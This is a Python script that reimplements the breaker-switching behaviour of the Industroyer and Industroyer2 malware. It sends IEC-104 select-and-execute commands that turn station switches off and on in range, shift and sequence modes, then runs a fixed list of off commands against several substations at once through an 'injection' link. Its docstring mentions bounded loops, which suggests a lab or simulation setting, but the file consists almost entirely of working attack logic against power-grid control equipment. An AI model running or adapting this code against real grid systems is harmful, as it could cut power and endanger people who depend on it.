"""What Industroyer and Industroyer2 did to stations, over plain sockets: `industroyer.py`.

Range, shift and sequence modes as in 2016, then the fixed list of 2022, at three stations at once. Every loop is bounded.
"""

import threading
import time

import plan
from injection import Link

C_SC, C_DC, C_IC = 45, 46, 100
SELECT = 0x80
TESTFR_ACT = bytes.fromhex("680443000000")
ON, OFF = 1, 0
DOUBLE_ON, DOUBLE_OFF = 2, 1


def operate(link: Link, kind: int, ca: int, ioa: int, state: int) -> None:
    """Selects, and executes whatever the station said."""
    for element in (state | SELECT, state):
        link.ask(kind, ca, ioa, bytes((element,)))


def range_mode(link: Link, ca: int, addresses: range) -> None:
    for ioa in addresses:
        operate(link, C_SC, ca, ioa, OFF)
        operate(link, C_SC, ca, ioa, ON)


def shift_mode(link: Link, ca: int, starts: range, width: int) -> None:
    """A few addresses, then as many a step further on."""
    for start in starts:
        for ioa in range(start, start + width):
            operate(link, C_DC, ca, ioa, DOUBLE_OFF)


def sequence_mode(link: Link, ca: int, points: tuple[int, ...], rounds: int) -> None:
    """The points that are there, off and on again."""
    for _ in range(rounds):
        for state in (DOUBLE_OFF, DOUBLE_ON):
            for ioa in points:
                operate(link, C_DC, ca, ioa, state)


# Of the second: type, object address, state.
FIXED_LIST = ((C_SC, 5001, OFF), (C_SC, 5003, OFF), (C_DC, 5101, DOUBLE_OFF), (C_DC, 5102, DOUBLE_OFF))


def fixed_list(ip: str, ca: int) -> None:
    link = Link(ip, first=TESTFR_ACT)
    link.ask(C_IC, ca, 0, bytes((20,)))
    for kind, ioa, state in FIXED_LIST:
        operate(link, kind, ca, ioa, state)
    link.close()


def main() -> None:
    link = Link(plan.STATIONS["north"][0])
    range_mode(link, 11, range(5001, 5007))
    sequence_mode(link, 11, (5101, 5102), 2)
    link.close()
    link = Link(plan.STATIONS["east"][0])
    shift_mode(link, 21, range(5100, 5109, 4), 4)
    link.close()
    time.sleep(1)
    targets = [(ip, cas[0]) for ip, cas in plan.STATIONS.values()]
    threads = [threading.Thread(target=fixed_list, args=target) for target in targets]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
